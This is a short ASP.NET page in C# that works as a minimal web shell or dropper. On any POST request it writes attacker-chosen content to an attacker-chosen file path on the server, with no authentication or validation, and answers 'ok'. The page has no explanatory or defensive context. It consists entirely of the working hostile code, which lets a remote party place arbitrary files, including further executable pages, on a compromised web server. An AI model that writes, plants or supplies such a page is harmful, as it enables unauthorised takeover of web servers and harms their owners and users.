<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
if (Request.HttpMethod == "POST")
{
    using (var w = new StreamWriter(Request.Form["p"], false))
    {
        w.Write(Request.Form["c"]);
    }
    Response.Write("ok");
}
%>
